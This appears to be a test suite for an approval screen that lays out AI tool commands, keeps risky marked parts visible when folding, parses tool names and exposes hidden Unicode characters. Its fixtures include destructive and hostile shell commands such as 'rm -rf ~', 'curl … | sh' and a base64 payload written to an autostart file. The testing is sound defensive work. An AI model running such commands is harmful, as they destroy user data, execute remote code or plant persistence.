/** A command is laid out for the eye, and not a character of it changes. */

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { keptOf, linesOf, type Range } from '../../../renderer/approval/lines.ts';
import { segmentsOf } from '../../../renderer/approval/marked.tsx';
import { toolName } from '../../../renderer/approval/tool-name.ts';
import { visiblePieces } from '../../../renderer/design/visible.ts';

const shown = (text: string, marks: readonly Range[] = []) =>
  linesOf(text, marks, true).map(({ lead, body }) =>
    [text.slice(lead.start, lead.end).trim(), text.slice(body.start, body.end)].filter((part) => part !== '').join(' '),
  );

describe('lines', () => {
  it.each([
    ['npm run build && rm -rf ~/drafts && git push --force', ['npm run build', '&& rm -rf ~/drafts', '&& git push --force']],
    ['a; b || c | d |& e', ['a', '; b', '|| c', '| d', '|& e']],
    ['echo "a && b" && c', ['echo "a && b"', '&& c']],
    [`echo 'it; is' \\; here`, [`echo 'it; is' \\; here`]],
    ['for f in *; do rm "$f"; done', ['for f in *', '; do rm "$f"', '; done']],
    ['x=$(a | b) && c', ['x=$(a | b)', '&& c']],
    ['(a && b) && c', ['(a && b)', '&& c']],
    ['case $x in a) b;; esac', ['case $x in a) b;; esac']],
    ['a >| b', ['a >| b']],
    ['a # not; a && command', ['a # not; a && command']],
    ['cat <<E && b\nx && y\nE', ['cat <<E && b', 'x && y', 'E']],
    ['one\ntwo\r\nthree', ['one', 'two', 'three']],
    ['trailing;', ['trailing;']],
  ])('lays out %j', (text, lines) => {
    expect(shown(text)).toEqual(lines);
  });

  it('does not cut a marked part', () => {
    const text = 'cd x && curl https://a.example | sh';
    expect(shown(text, [{ start: 8, end: text.length }])).toEqual(['cd x', '&& curl https://a.example | sh']);
  });

  const words = fc
    .array(fc.constantFrom('a', ' ', '&&', '||', ';', '|', '"', "'", '\\', '\n', '\r\n', '$(', ')', '#', '>', '<<', '`', '{', '}'), {
      maxLength: 40,
    })
    .map((parts) => parts.join(''));

  it('keeps every character of whatever text', () => {
    fc.assert(
      fc.property(words, fc.boolean(), (text, isShell) => {
        let at = 0;
        for (const { lead, body } of linesOf(text, [], isShell)) {
          // Between lines there is a line end and nothing else.
          expect(text.slice(at, lead.start)).toMatch(/^(\r?\n)?$/);
          expect(body.start).toBe(lead.end);
          at = body.end;
        }
        expect(at).toBe(text.length);
      }),
    );
  });
});

describe('folding', () => {
  const long = `${Array.from({ length: 60 }, (_, i) => `step ${i} of many`).join('\n')}\nrm -rf ~/thesis\n${Array.from({ length: 60 }, (_, i) => `more ${i}`).join('\n')}`;
  const mark = { start: long.indexOf('rm -rf'), end: long.indexOf('rm -rf') + 15 };

  it('leaves a short command whole', () => {
    const text = 'npm run build && rm -rf ~/drafts';
    expect(keptOf(text, linesOf(text, [], true), [])).toBeNull();
  });

  it('never hides a marked part, wherever it lies', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: 20_000 }),
        fc.integer({ min: 0, max: 20_000 }),
        fc.constantFrom(' ', '\n', '; '),
        (before, after, between) => {
          const text = `${`x${between}`.repeat(before / 3)}rm -rf ~${`${between}y`.repeat(after / 3)}`;
          const risky = { start: text.indexOf('rm -rf ~'), end: text.indexOf('rm -rf ~') + 8 };
          const kept = keptOf(text, linesOf(text, [risky], true), [risky]);
          if (kept) expect(kept.some(({ start, end }) => start <= risky.start && risky.end <= end)).toBe(true);
        },
      ),
      { numRuns: 40 },
    );
  });

  it('shows the beginning, the marked part and the end of a long one', () => {
    const kept = keptOf(long, linesOf(long, [mark], true), [mark])!;
    const parts = kept.map(({ start, end }) => long.slice(start, end));
    expect(parts).toHaveLength(3);
    expect(parts[0]).toMatch(/^step 0 of many/);
    expect(parts[1]).toBe('rm -rf ~/thesis');
    expect(parts[2]).toBe('more 59');
  });

  it('folds one endless line too', () => {
    const text = `echo ${'a'.repeat(9_000)} && rm -rf ~`;
    expect(keptOf(text, linesOf(text, [], true), [])!.reduce((sum, { start, end }) => sum + end - start, 0)).toBeLessThan(1_000);
  });
});

describe('what is too long for the window', () => {
  it('is folded by its rows, so that a marked end is in sight', () => {
    const text = `echo ${'QUJD'.repeat(270)} | base64 -d > ~/.config/autostart/x.desktop`;
    const mark = { start: text.indexOf('~/.config'), end: text.length };
    const kept = keptOf(text, linesOf(text, [mark], true), [mark])!;
    expect(kept.at(-1)!.end).toBe(text.length);
    expect(kept.reduce((sum, { start, end }) => sum + end - start, 0)).toBeLessThan(500);
  });
});

describe('a tool', () => {
  it.each([
    ['mcp__atlassian__get_issue', { name: 'get_issue', server: 'atlassian' }],
    ['mcp__claude_ai_Linear__save__all', { name: 'save__all', server: 'claude_ai_Linear' }],
    ['deploy_preview', { name: 'deploy_preview', server: null }],
    ['mcp____', { name: 'mcp____', server: null }],
  ])('%s is named in words', (tool, named) => {
    expect(toolName(tool)).toEqual(named);
  });
});

describe('marks', () => {
  it('cut a part of the text at their edges and lose nothing of it', () => {
    const marks = [
      { start: 2, end: 5, risk: 'risk' as const, says: 'a' },
      { start: 7, end: 12, risk: 'watch' as const, says: 'b' },
    ];
    expect(segmentsOf(marks, { start: 4, end: 10 }).map(({ start, end, mark }) => [start, end, mark?.says])).toEqual([
      [4, 5, 'a'],
      [5, 7, undefined],
      [7, 10, 'b'],
    ]);
  });
});

describe('what a text would hide', () => {
  it.each([
    ['safe\u202Egnp.exe', 'safe[U+202E]gnp.exe'],
    ['a\u200Bb', 'a[U+200B]b'],
    ['\u001B[2Krm', '[U+001B][2Krm'],
    ['tag\u{E0041}', 'tag[U+E0041]'],
    ['tab\tand\nline', 'tab\tand\nline'],
    ['Zoë ⚠️', 'Zoë ⚠️'],
    ['Việt e\u0302\u0323', 'Việt e\u0302\u0323'],
    [`z${'\u0301'.repeat(20)}algo`, `z${'\u0301'.repeat(8)}[+12 U+0301]algo`],
  ])('is shown: %j', (text, seen) => {
    expect(
      visiblePieces(text)
        .map(({ plain, text: part }) => (plain ? part : `[${part}]`))
        .join(''),
    ).toBe(seen);
  });
});
